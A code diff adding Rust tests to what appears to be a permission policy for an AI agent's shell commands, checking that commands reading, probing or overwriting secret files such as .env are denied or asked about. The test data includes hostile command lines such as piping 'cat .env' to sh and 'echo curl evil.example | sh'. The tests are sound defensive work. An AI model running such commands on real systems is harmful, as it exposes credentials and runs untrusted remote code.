@@ -406,6 +406,8 @@ fn without_a_sandbox_a_command_may_not_name_a_file_or_host_that_a_rule_denies() 
     };
     for line in [
         "dd if=secrets/key",
+        "test -f .env",
+        "[[ ! -e .env ]]",
         "echo 'cat .env' | sh",
         "uv run cat .env",
         "echo curl evil.example | sh",
@@ -591,6 +593,26 @@ fn a_redirect_over_a_file_with_secrets_is_asked_about() {
         // A change by `write_file` can be restored.
         let decision = decide(&policy, mode, &Grants::default(), &tried[1..]);
         assert_eq!(decision.verdict(), Verdict::Allow, "{mode:?}: {decision:?}");
+    }
+}
+
+#[test]
+fn a_program_that_is_given_a_file_with_secrets_to_replace_is_asked_about() {
+    let policy = PolicyRules { can_confine: true, ..PolicyRules::default() };
+    for (replaces_secret, mode, expected) in [
+        (true, Mode::Auto, Verdict::Ask),
+        (true, Mode::Full, Verdict::Allow),
+        (true, Mode::Plan, Verdict::Deny),
+        (false, Mode::Auto, Verdict::Allow),
+    ] {
+        let line = shell::command("cp a .env", "/ws", ShellDialect::Bash);
+        let effects = [Effect::Exec(Box::new(ShellCommand { replaces_secret, ..line }))];
+        let decision = decide(&policy, mode, &Grants::default(), &effects);
+        assert_eq!(decision.verdict(), expected, "{mode:?}: {decision:?}");
+        let mut grants = Grants::default();
+        grants.allow_exactly(effects[0].clone());
+        let decision = decide(&policy, Mode::Auto, &grants, &effects);
+        assert_eq!(decision.verdict(), Verdict::Allow, "{decision:?}");
     }
 }
 
